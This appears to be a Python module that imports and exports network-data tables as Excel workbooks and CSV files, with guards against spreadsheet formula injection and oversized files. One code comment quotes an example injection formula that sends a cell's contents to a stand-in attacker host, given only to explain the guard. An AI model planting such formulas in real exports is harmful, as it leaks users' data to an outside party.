"""The native format: one .xlsx workbook with a sheet per table, or a folder of CSVs.

Sheet and file names, headers and allowed values may be written in Finnish or English
(see :mod:`verkostolab.tables.schema`).  Sheets that are not tables (instructions, lists) are
left alone.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

from ..tables.data import NetworkData
from ..errors import InputError, Problem
from ..i18n import LANGUAGES, catalogue, t
from ..tables.schema import ASSESSMENT_ITEMS, SCHEMA_VERSION, TABLE_ORDER, TABLES, VOCABULARIES, table_for_name
from ..tables.validation import RawTable
from .limits import limit, too_large
from .text import read_text_table

__all__ = ["read_workbook_raw", "read_csv_folder_raw", "read_csv_table_raw",
           "write_workbook", "write_csv_folder", "write_template", "formula_safe", "FORMULA_START"]

#: A text cell that starts with one of these is a formula to a spreadsheet (Excel,
#: LibreOffice, Google Sheets): ``=HYPERLINK("http://evil.example/?"&A1)`` from a
#: person's name must never become one in an export.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value):
    """A text value as written to an exported CSV: a leading apostrophe before text that
    a spreadsheet would read as a formula (and before text that starts with an
    apostrophe, so that reading it back removes exactly one); other values unchanged.

    >>> formula_safe("@SUM(A1)"), formula_safe("-3"), formula_safe(-3), formula_safe("Aino")
    ("'@SUM(A1)", "'-3", -3, 'Aino')
    """
    if isinstance(value, str) and value.startswith((*FORMULA_START, "'")):
        return "'" + value
    return value


def _unguard(value):
    """Undo :func:`formula_safe` on a cell read from CSV."""
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1] in (*FORMULA_START, "'"):
        return value[1:]
    return value

_EXPECTED = "actors/toimijat, organisations/organisaatiot, events/tapahtumat, participation/osallistumiset, ties/suhteet"
CSV_SUFFIXES = (".csv", ".tsv", ".txt")


@dataclass
class SheetCells:
    """The non-blank rows of one sheet: the first is the header; ``blank`` counts the
    blank rows between the header and the last record (left out, and counted)."""

    header: list | None
    header_row: int
    records: list[list]
    rows: list[int]
    blank: int


def sheet_cells(ws, *, file: str | None = None) -> SheetCells:
    """Walk a worksheet once (openpyxl, read-only mode works).

    The sheet is read by its real extent, not by the dimension it claims (a 2 KB file
    claiming A1:XFD1048576 would otherwise be padded to 17 billion cells), and stops
    at the row and column limits of :mod:`verkostolab.io.limits`.
    """
    header, header_row, records, rows = None, 1, [], []
    blank = pending = 0
    if hasattr(ws, "reset_dimensions"):  # read-only worksheets: trust the cells, not the tag
        ws.reset_dimensions()
    max_rows, max_cols = limit("rows"), limit("columns")
    for number, row in enumerate(ws.iter_rows(values_only=True), start=1):
        if max_rows is not None and number > max_rows:
            raise too_large("rows", file=file or "?", sheet=ws.title, row=number, value=number)
        cells = list(row)
        if max_cols is not None and len(cells) > max_cols:
            while cells and cells[-1] is None:
                cells.pop()
            if len(cells) > max_cols:
                raise too_large("columns", file=file or "?", sheet=ws.title, row=number,
                                value=len(cells))
        if not any(c is not None and str(c).strip() != "" for c in cells):
            pending += header is not None
            continue
        if header is None:
            header, header_row = cells, number
        else:
            records.append(cells)
            rows.append(number)
            blank, pending = blank + pending, 0
    return SheetCells(header, header_row, records, rows, blank)


def read_workbook_raw(path: Path) -> list[RawTable]:
    """Raw tables of an .xlsx workbook, one per recognised sheet."""
    import openpyxl

    name = str(path)
    if path.stat().st_size == 0:
        raise InputError([Problem("empty_file", file=name)], source=name)
    try:
        wb = openpyxl.load_workbook(path, read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - a damaged file can fail anywhere inside openpyxl
        raise InputError([Problem("unreadable", file=name, value=f"{type(exc).__name__}: {exc}")],
                         source=name) from None
    try:
        return _workbook_tables(wb, name)
    except InputError:
        raise
    except Exception as exc:  # noqa: BLE001 - damage found while reading the sheets
        raise InputError([Problem("unreadable", file=name, value=f"{type(exc).__name__}: {exc}")],
                         source=name) from None


def _workbook_tables(wb, name: str) -> list[RawTable]:
    raws, problems = [], []
    try:
        for ws in wb.worksheets:
            table = table_for_name(ws.title)
            if table is None or "(ignore)" in ws.title:
                continue
            cells = sheet_cells(ws, file=name)
            if cells.header is None:
                problems.append(Problem("empty_table", file=name, sheet=ws.title))
                continue
            raw = RawTable.from_records(table, cells.header, cells.records, cells.rows, file=name,
                                        sheet=ws.title, header_row=cells.header_row)
            raw.left_out = {"blank_row": cells.blank} if cells.blank else {}
            raws.append(raw)
    finally:
        wb.close()
    if problems:
        raise InputError(problems, source=name)
    if not raws:
        raise InputError([Problem("no_tables", file=name, params={"expected": _EXPECTED})],
                         source=name)
    return raws


def read_csv_table_raw(path: Path, table: str, *, encoding: str | None = None,
                       delimiter: str | None = None) -> RawTable:
    """One table from one CSV file."""
    name = str(path)
    text = read_text_table(path.read_bytes(), file=name, encoding=encoding, delimiter=delimiter)
    records = [[_unguard(v) for v in record] for record in text.records]
    raw = RawTable.from_records(table, text.header, records, text.rows, file=name,
                                header_row=text.header_row)
    raw.left_out = {"blank_row": text.blank_rows} if text.blank_rows else {}
    return raw


def read_csv_folder_raw(path: Path, *, encoding: str | None = None) -> list[RawTable]:
    """Raw tables of a folder with one CSV file per table (e.g. ``toimijat.csv``)."""
    raws, problems = [], []
    for file in sorted(path.iterdir()):
        if file.suffix.lower() not in CSV_SUFFIXES:
            continue
        table = table_for_name(file.stem)
        if table is None:
            continue
        try:
            raws.append(read_csv_table_raw(file, table, encoding=encoding))
        except InputError as exc:
            problems += exc.problems
    if problems:
        raise InputError(problems, source=str(path))
    if not raws:
        raise InputError([Problem("no_tables", file=str(path), params={"expected": _EXPECTED})],
                         source=str(path))
    return raws


# --------------------------------------------------------------------------- writing


def _header(table: str, column: str, lang: str) -> str:
    cat = catalogue(lang)
    return cat.get(f"column.{table}.{column}") or cat.get(f"column.{column}") or column


def _display_frame(data: NetworkData, table: str, lang: str, labels: bool) -> pd.DataFrame:
    spec = TABLES[table]
    frame = data.table(table)
    out = {}
    for col in spec.columns:
        s = frame[col.name]
        if labels and col.kind == "vocab" and col.vocabulary != "assessment_item":
            cat = catalogue(lang)
            s = s.map(lambda v, voc=col.vocabulary: None if v is None else cat.get(f"{voc}.{v}", v))
        if col.kind == "rating":
            s = s.astype(object).where(s.notna(), None)
        out[_header(table, col.name, lang)] = s
    return pd.DataFrame(out)


def write_workbook(data: NetworkData, path, *, lang: str = "fi", labels: bool = True) -> Path:
    """Write ``data`` as the native workbook: a sheet per table, headers in ``lang``.
    Every value is a value: text that starts like a formula (:data:`FORMULA_START`) is a
    text cell shown with a quote prefix, never a live formula.

    With ``labels`` the allowed values are written as their names in ``lang``
    (``kolmas sektori``) rather than their codes (``third_sector``); both read back.
    """
    path = Path(path)
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        for table in TABLE_ORDER:
            frame = _display_frame(data, table, lang, labels)
            frame.to_excel(writer, sheet_name=t(f"table.{table}", lang), index=False)
        for ws in writer.book.worksheets:
            _tidy_sheet(ws)
        _write_about(writer.book, lang)
    return path


def write_csv_folder(data: NetworkData, folder, *, lang: str = "en", labels: bool = False) -> Path:
    """Write ``data`` as a folder of UTF-8 CSV files, one per table; text a spreadsheet
    would read as a formula gets a leading apostrophe (:func:`formula_safe`), which
    :func:`read_csv_table_raw` removes again."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for table in TABLE_ORDER:
        frame = _display_frame(data, table, lang, labels)
        for col in frame.columns:
            if pd.api.types.is_datetime64_any_dtype(frame[col]):
                frame[col] = frame[col].map(_iso)
            elif frame[col].dtype == object:
                frame[col] = frame[col].map(formula_safe)
        frame.to_csv(folder / f"{t(f'table.{table}', lang)}.csv", index=False, encoding="utf-8")
    return folder


def _iso(value) -> str | None:
    if pd.isna(value):
        return None
    value = pd.Timestamp(value)
    if value == value.normalize():
        return value.date().isoformat()
    return value.isoformat()


def _tidy_sheet(ws) -> None:
    from openpyxl.styles import Font

    for cell in ws[1]:
        cell.font = Font(bold=True)
    ws.freeze_panes = "A2"
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                c.data_type = "s"  # text, never a formula (openpyxl makes "=..." one)
                c.quotePrefix = True  # and Excel keeps it text when the cell is edited
    for column_cells in ws.columns:
        width = max((len(str(c.value)) for c in column_cells if c.value is not None), default=8)
        ws.column_dimensions[column_cells[0].column_letter].width = min(max(width + 2, 10), 50)
        for c in column_cells[1:]:
            if isinstance(c.value, (dt.datetime, pd.Timestamp)):
                c.number_format = "d.m.yyyy" if c.value == c.value.replace(hour=0, minute=0, second=0, microsecond=0) else "d.m.yyyy h:mm"


def _write_about(book, lang: str) -> None:
    ws = book.create_sheet(t("template.about_sheet", lang))
    ws.append([t("template.about_schema", lang), SCHEMA_VERSION])


def write_template(path, *, lang: str = "fi") -> Path:
    """A blank workbook for trainers: an instructions sheet in Finnish, Swedish and English, a
    sheet per table with its headers, and drop-down lists of the allowed values."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font
    from openpyxl.worksheet.datavalidation import DataValidation

    path = Path(path)
    wb = Workbook()
    guide = wb.active
    guide.title = t("template.instructions_title", lang)
    bold = Font(bold=True)
    for guide_lang in LANGUAGES:
        guide.append([t("template.heading", guide_lang)])
        guide.cell(guide.max_row, 1).font = Font(bold=True, size=14)
        for key in ("template.intro", "template.rows", "template.dates", "template.ratings",
                    "template.ids", "template.privacy"):
            guide.append([t(key, guide_lang)])
        guide.append([])
        for table in TABLE_ORDER:
            spec = TABLES[table]
            guide.append([t(f"table.{table}", guide_lang), t(f"template.table.{table}", guide_lang)])
            guide.cell(guide.max_row, 1).font = bold
            for col in spec.columns:
                need = t("template.required" if col.required else "template.optional", guide_lang)
                guide.append(["", _header(table, col.name, guide_lang), need,
                              t(f"template.kind.{col.kind}", guide_lang)])
        guide.append([])
    guide.column_dimensions["A"].width = 30
    guide.column_dimensions["B"].width = 60
    for row in guide.iter_rows():
        for c in row:
            c.alignment = Alignment(wrap_text=True, vertical="top")

    lists = wb.create_sheet(t("template.lists_sheet", lang))
    list_ranges = {}
    for i, (vocab, codes) in enumerate(VOCABULARIES.items(), start=1):
        labels = [catalogue(lang).get(f"{vocab}.{code}", code) if vocab != "assessment_item" else code
                  for code in codes]
        letter = lists.cell(1, i).column_letter
        lists.cell(1, i, vocab).font = bold
        for j, label in enumerate(labels, start=2):
            lists.cell(j, i, label)
        list_ranges[vocab] = f"'{lists.title}'!${letter}$2:${letter}${len(labels) + 1}"

    for table in TABLE_ORDER:
        spec = TABLES[table]
        ws = wb.create_sheet(t(f"table.{table}", lang))
        ws.append([_header(table, c.name, lang) for c in spec.columns])
        for cell in ws[1]:
            cell.font = bold
        ws.freeze_panes = "A2"
        for i, col in enumerate(spec.columns, start=1):
            letter = ws.cell(1, i).column_letter
            ws.column_dimensions[letter].width = max(14, len(ws.cell(1, i).value) + 4)
            if col.kind == "vocab":
                dv = DataValidation(type="list", formula1=list_ranges[col.vocabulary],
                                    allow_blank=True, showErrorMessage=False)
                dv.add(f"{letter}2:{letter}5000")
                ws.add_data_validation(dv)
            elif col.kind == "rating":
                dv = DataValidation(type="whole", operator="between", formula1="1", formula2="5",
                                    allow_blank=True, showErrorMessage=True,
                                    error=t("problem.invalid_rating", lang, value=""))
                dv.add(f"{letter}2:{letter}5000")
                ws.add_data_validation(dv)
            elif col.kind == "date":
                for r in range(2, 501):
                    ws.cell(r, i).number_format = "d.m.yyyy"
    _write_about(wb, lang)
    wb.save(path)
    return path
